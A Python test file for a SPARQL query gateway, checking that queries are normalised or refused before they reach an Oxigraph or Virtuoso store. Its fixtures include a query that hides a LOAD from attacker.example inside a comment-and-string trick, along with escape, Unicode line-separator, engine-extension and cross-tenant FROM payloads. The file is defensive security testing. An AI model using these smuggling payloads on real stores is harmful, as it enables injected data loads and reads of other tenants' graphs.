"""`serve --store`: the store runs the query the guard checked, on the dataset's graphs only (review R2).

Attacks found by reading Virtuoso's lexer against ours: a '#' comment that ends at CR for Oxigraph
but runs on to LF for Virtuoso (so text Oxigraph reads inside a string is a LOAD to Virtuoso), \\u
escapes that Oxigraph decodes before parsing and Virtuoso does not, `0-bif:f()` slipping past a
look-behind, FROM / default-graph-uri naming another tenant's graph in the same store, and
Virtuoso's partial "anytime" answers (200 with X-SQL-State S1TAT) cached as whole. Each is checked
here on what the store would be SENT (a recording client, no engine needed); test_serve_store.py
runs the real engines."""

from __future__ import annotations

import http.server
import threading

import pyoxigraph as ox
import pytest

from chainkg.sparql.errors import QueryError
from chainkg.sparql.gateway import CallFailed
from chainkg.sparql.remote import EMPTY_GRAPH, UNION_GRAPH, Manifest, RemoteDataset, fetch

OURS = "https://w3id.org/chainkg/claim/900-a"
EMPTY_XML = (b'<?xml version="1.0"?><sparql xmlns="http://www.w3.org/2005/sparql-results#">'
             b'<head><variable name="s"/></head><results></results></sparql>')
LOAD_IN_A_COMMENT = '# \rSELECT * WHERE { ?s ?p """\nLOAD <http://attacker.example/x.ttl> INTO GRAPH <urn:x>\n# \r""" }'


class Recorder:
    url = "http://127.0.0.1:9/query"

    def __init__(self):
        self.sent = []

    def call(self, form, accept, *, max_bytes=0):
        self.sent.append(list(form))
        return "application/sparql-results+xml", EMPTY_XML, False


@pytest.fixture
def store():
    client = Recorder()
    ds = RemoteDataset(client, Manifest("v1", {OURS: 3}, frozenset()))
    return ds.union_store, client


def sent_query(client) -> str:
    return dict(client.sent[-1])["query"]


def test_a_comment_ending_at_cr_is_sent_as_the_text_that_was_checked(store):
    remote, client = store
    list(remote.query(LOAD_IN_A_COMMENT))
    text = sent_query(client)
    assert "\r" not in text  # Virtuoso ends '#' comments at LF only: the CR becomes LF, so both read a SELECT
    ox.Store().query(text)  # and what was sent parses as a query (LOAD stays inside the long string)
    assert text.endswith('SELECT * WHERE { ?s ?p """\nLOAD <http://attacker.example/x.ttl> INTO GRAPH <urn:x>\n# \n""" }')


@pytest.mark.parametrize("query, says", [
    ('SELECT * WHERE { ?s ?p "\\u0022" }', "escape"),
    ("SELECT * WHERE { ?s ?p ?o }\x0b", "U+000B"),
    ("SELECT * WHERE { ?s ?p ?o } # x\u2028LIMIT 1", "U+2028"),
    ('SELECT (0-bif:sprintf("%s", "x") AS ?x) WHERE {}', "engine extension"),
    ("SELECT ?x WHERE { BIND(sql:now() AS ?x) }", "engine extension"),
    ("SELECT * FROM <http://other-tenant.example/private> WHERE { ?s ?p ?o }", "not in this dataset"),
    ("PREFIX t: <http://other-tenant.example/> SELECT * FROM t:private WHERE { ?s ?p ?o }", "full IRI"),
    ("SELECT * FROM #\n<http://other-tenant.example/private> WHERE { ?s ?p ?o }", "full IRI"),
])
def test_what_lexers_may_read_differently_is_refused_before_anything_is_sent(store, query, says):
    remote, client = store
    with pytest.raises(QueryError) as e:
        list(remote.query(query))
    assert says in str(e.value)
    assert client.sent == []


def test_from_our_own_graph_is_sent(store):
    remote, client = store
    list(remote.query(f"SELECT * FROM <{OURS}> WHERE {{ ?s ?p ?o }}"))
    assert f"FROM <{OURS}>" in sent_query(client)


def test_dataset_parameters_reach_only_the_datasets_graphs(store):
    remote, client = store
    other = ox.NamedNode("http://other-tenant.example/private")
    list(remote.query("SELECT * WHERE { GRAPH ?g { ?s ?p ?o } }", default_graph=[other],
                      named_graphs=[other, ox.NamedNode(OURS)]))
    pairs = client.sent[-1]
    graphs = [v for k, v in pairs if k.endswith("graph-uri")]
    assert "http://other-tenant.example/private" not in graphs
    assert ("named-graph-uri", OURS) in pairs
    assert [v for k, v in pairs if k == "default-graph-uri"] == [EMPTY_GRAPH]


@pytest.mark.parametrize("query, named", [
    ("SELECT * WHERE { ?s ?p ?o }", False),
    ("SELECT * WHERE { GRAPH ?g { ?s ?p ?o } }", True),
    ("SELECT * WHERE { graph ?g { ?s ?p ?o } }", True),
    ("ASK { ?s ?p 'no graph here' }", True),  # the word anywhere: a false yes only costs a longer request
])
def test_named_graphs_are_listed_only_for_a_query_that_can_read_them(store, query, named):
    """A build names a graph per claim and per derivation group; a query without GRAPH cannot read
    them, so the store is not sent the list (Virtuoso took seconds over 1,700 named-graph-uri)."""
    remote, client = store
    list(remote.query(query))
    pairs = client.sent[-1]
    assert (("named-graph-uri", OURS) in pairs) is named
    assert [v for k, v in pairs if k == "default-graph-uri"] == [UNION_GRAPH]  # the union, either way


def test_crlf_from_a_browser_form_still_works(store):
    remote, client = store
    list(remote.query("SELECT *\r\nWHERE { ?s ?p ?o }\r\n"))
    assert sent_query(client).endswith("SELECT *\nWHERE { ?s ?p ?o }\n")


def test_a_partial_anytime_answer_is_a_504_not_a_result():
    class Anytime(http.server.BaseHTTPRequestHandler):
        def do_POST(self):
            self.rfile.read(int(self.headers["Content-Length"]))
            self.send_response(200)
            self.send_header("Content-Type", "application/sparql-results+xml")
            self.send_header("X-SQL-State", "S1TAT")
            self.send_header("Content-Length", str(len(EMPTY_XML)))
            self.end_headers()
            self.wfile.write(EMPTY_XML)

        def log_message(self, *args):
            pass

    server = http.server.HTTPServer(("127.0.0.1", 0), Anytime)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        with pytest.raises(CallFailed) as e:
            fetch(f"http://127.0.0.1:{server.server_port}/sparql", b"query=x", "application/sparql-results+xml",
                  time_limit=5)
        assert e.value.status == 504 and "S1TAT" in e.value.reason
    finally:
        server.shutdown()


def test_the_per_worker_node_cache_is_bounded_in_quads_not_only_in_keys(store, monkeypatch):
    remote, _ = store
    ds = remote.ds
    quad = ox.Quad(ox.NamedNode(OURS), ox.NamedNode(OURS), ox.Literal("x"), ox.NamedNode(OURS))
    monkeypatch.setattr(type(ds), "SUBJECT_QUADS", 5000)
    monkeypatch.setattr(type(remote), "_fetch", lambda self, subject, limit: [quad] * 1500)
    for n in range(40):  # 40 subjects of 1,500 quads: 60,000 if kept
        ds.subject_quads("union", ox.NamedNode(f"{OURS}/{n}"))
        assert ds._subject_quads <= 5000 and sum(len(v or ()) for v in ds._subjects.values()) == ds._subject_quads
